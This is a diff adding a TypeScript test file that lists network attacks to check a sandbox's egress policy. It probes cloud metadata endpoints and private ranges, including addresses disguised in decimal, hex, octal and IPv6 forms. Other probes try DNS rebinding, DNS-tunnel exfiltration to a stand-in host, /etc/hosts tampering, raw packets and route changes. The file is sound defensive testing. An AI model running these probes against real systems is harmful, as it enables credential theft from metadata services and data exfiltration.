@@ -1,0 +1,164 @@
+import { type AllowRule, type EgressPolicy, parseAllowRule } from "@airlock/job";
+import { otherPublicIpv4, publicIpv4 } from "../../egress/testing/test-network.ts";
+import type { Attack, Weakened } from "../attack.ts";
+import { forbiddenCall, perlScript } from "../scripts.ts";
+
+const internet: EgressPolicy = { kind: "public" };
+
+function allow(...rules: readonly string[]): EgressPolicy {
+  return {
+    kind: "allow",
+    rules: rules.map((text): AllowRule => {
+      const rule = parseAllowRule(text);
+      if (rule.kind === "invalid") throw new Error(`${text}: ${rule.problem}`);
+      return rule;
+    }),
+  };
+}
+
+/** Whoever answers in the test's network says who was called. */
+function connects(host: string, port = 80): string {
+  return `out=$(nc -w 2 ${host} ${port} </dev/null 2>&1); case "$out" in *"<-"*) echo "BREACH $out";; *) echo "HELD $out" | head -n 1;; esac\n`;
+}
+
+/** The engine's own tests show the same connection open to a namespace behind the same host without rules. */
+const noPolicy: Weakened = {
+  cannotBeShown: "no policy opens it; without rules the test network's host lets it through",
+};
+const publicNamesOnly: Weakened = { cannotBeShown: "no policy lets a name stand for a private address" };
+const opened = (...rules: readonly string[]): Weakened => ({ plan: { egress: allow(...rules) } });
+
+const destinations: readonly (readonly [id: string, what: string, host: string, weakened: Weakened])[] = [
+  ["metadata", "a cloud's metadata service", "169.254.169.254", noPolicy],
+  ["metadata-of-containers", "the credentials of AWS containers", "169.254.170.2", noPolicy],
+  ["metadata-ipv6", "a cloud's metadata service over IPv6", "fd00:ec2::254", noPolicy],
+  ["metadata-name", "a cloud's metadata service by its name", "metadata.google.internal", noPolicy],
+  ["private-10", "the private network 10.0.0.0/8", "10.99.0.2", opened("10.0.0.0/8")],
+  ["private-172", "the private network 172.16.0.0/12", "172.31.255.254", opened("172.16.0.0/12")],
+  ["private-192", "the private network 192.168.0.0/16", "192.168.7.7", opened("192.168.0.0/16")],
+  ["private-ipv6", "a private network over IPv6", "fd12:3456::1", opened("[fd12::/16]")],
+  ["cgnat", "the provider's network", "100.64.9.2", opened("100.64.0.0/10")],
+  ["link-local", "the local link", "169.254.1.1", noPolicy],
+  ["decimal-address", "a private address written as one decimal number", "174260226", opened("10.0.0.0/8")],
+  ["hexadecimal-address", "a private address written in hexadecimal", "0x0a630002", opened("10.0.0.0/8")],
+  ["octal-address", "a private address written in octal", "012.0143.0.02", opened("10.0.0.0/8")],
+  ["mapped-address", "a private IPv4 address written as IPv6", "::ffff:10.99.0.2", opened("10.0.0.0/8")],
+  ["nat64-address", "a metadata address by way of NAT64", "64:ff9b::a9fe:a9fe", noPolicy],
+  ["6to4-address", "a private address by way of 6to4", "2002:a63:2::1", noPolicy],
+  ["own-host", "the host by its address in the network", "192.168.77.2", noPolicy],
+  ["own-host-ipv6", "the host by its address in the network over IPv6", "fd99::2", noPolicy],
+  ["private-name", "a private address by a public name", "private.example.com", publicNamesOnly],
+];
+
+/** What a step's network may not do. Carried out in a little internet of the test's own. */
+export const networkAttacks: readonly Attack[] = [
+  ...destinations.map(
+    ([id, what, host, weakened]): Attack => ({
+      id: `network-${id}`,
+      does: `connects to ${what}`,
+      defence: "the egress policy, outside of the sandbox",
+      plan: { egress: internet },
+      script: connects(host),
+      weakened,
+    }),
+  ),
+  {
+    id: "network-none",
+    does: "that was given no network reaches the internet",
+    defence: "no interface but its own loopback",
+    script: connects(publicIpv4),
+    weakened: { plan: { egress: internet } },
+  },
+  {
+    id: "network-other-address",
+    does: "that may reach one name connects to another address under this name",
+    defence: "names open only the addresses that the executor's resolver answered",
+    plan: { egress: allow("public.example.com:443") },
+    script: `echo "${otherPublicIpv4} public.example.com" >> /etc/hosts 2>/dev/null; ${connects(otherPublicIpv4, 443)}`,
+    weakened: { plan: { egress: internet } },
+  },
+  {
+    id: "network-other-port",
+    does: "that may reach one port of a name connects to another",
+    defence: "rules hold for their port",
+    plan: { egress: allow("public.example.com:443") },
+    script: connects("public.example.com", 22),
+    weakened: { plan: { egress: allow("public.example.com") } },
+  },
+  {
+    id: "network-rebinding",
+    does: "asks for a name until it answers with a private address",
+    defence: "the executor's resolver takes private addresses out of answers",
+    plan: { egress: internet },
+    script: `for i in 1 2 3; do nslookup rebinding.example.com >/tmp/answer 2>&1; grep -q 10.99.0.2 /tmp/answer && { echo BREACH the private answer; exit; }; sleep 0.3; done; echo HELD only public answers\n`,
+    weakened: publicNamesOnly,
+  },
+  {
+    id: "network-own-resolver",
+    does: "that may reach some names asks a name server of its own",
+    defence: "look-ups only through the executor's resolver",
+    plan: { egress: allow("public.example.com:443") },
+    script: connects(publicIpv4, 53),
+    weakened: noPolicy,
+  },
+  {
+    id: "network-dns-over-tls",
+    does: "that may reach some names asks a name server over TLS",
+    defence: "look-ups only through the executor's resolver",
+    plan: { egress: allow("public.example.com:443") },
+    script: connects(publicIpv4, 853),
+    weakened: noPolicy,
+  },
+  {
+    id: "network-dns-tunnel",
+    does: "that may reach some names carries data out in the names that it looks up",
+    defence: "names outside the policy are not passed on",
+    plan: { egress: allow("public.example.com:443") },
+    script: `nslookup c2VjcmV0.tunnel.example.org >/tmp/answer 2>&1; grep -q ${publicIpv4} /tmp/answer && echo BREACH it was asked || echo HELD refused\n`,
+    weakened: { plan: { egress: allow("*.tunnel.example.org") } },
+  },
+  {
+    id: "network-ipv6",
+    does: "that may reach IPv4 addresses goes by IPv6",
+    defence: "one policy for both",
+    plan: { egress: allow("45.45.45.45/32") },
+    script: connects("2a00:1450::45"),
+    weakened: { plan: { egress: internet } },
+  },
+  {
+    id: "network-datagrams",
+    does: "sends datagrams to a private address",
+    defence: "the policy holds for every protocol",
+    plan: { egress: internet },
+    script: perlScript(`
+socket(my $socket, 2, 2, 17) or die $!; my $to = pack("SnC4x8", 2, 7000, 10, 99, 0, 2);
+connect($socket, $to); send($socket, "ping", 0); my $ready = ""; vec($ready, fileno($socket), 1) = 1;
+my $answer = ""; if (select($ready, undef, undef, 1)) { sysread($socket, $answer, 100) }
+print $answer ? "BREACH $answer\\n" : "HELD no answer: $!\\n";`),
+    weakened: opened("10.0.0.0/8"),
+  },
+  {
+    id: "network-interface",
+    does: "gives itself another address",
+    defence: "no capability NET_ADMIN",
+    plan: { egress: internet },
+    script: `ip address add 10.99.0.77/24 dev eth0 2>/tmp/why && echo BREACH it has || echo "HELD $(head -n 1 /tmp/why)"\n`,
+    weakened: { hardening: { capabilities: ["NET_ADMIN"], userNamespace: false } },
+  },
+  {
+    id: "network-raw-packets",
+    does: "forges packets in its network",
+    defence: "no capability NET_RAW",
+    plan: { egress: internet },
+    script: forbiddenCall(`my $socket; socket($socket, 17, 3, 0x0300) ? 1 : undef`),
+    weakened: { hardening: { capabilities: ["NET_RAW"], userNamespace: false } },
+  },
+  {
+    id: "network-firewall",
+    does: "changes the rules of its own network",
+    defence: "the rules are outside of the sandbox; no capability NET_ADMIN",
+    plan: { egress: internet },
+    script: `ip route add 10.0.0.0/8 dev eth0 2>/tmp/why && echo BREACH a route || echo "HELD $(head -n 1 /tmp/why)"\n`,
+    weakened: { hardening: { capabilities: ["NET_ADMIN"], userNamespace: false } },
+  },
+];
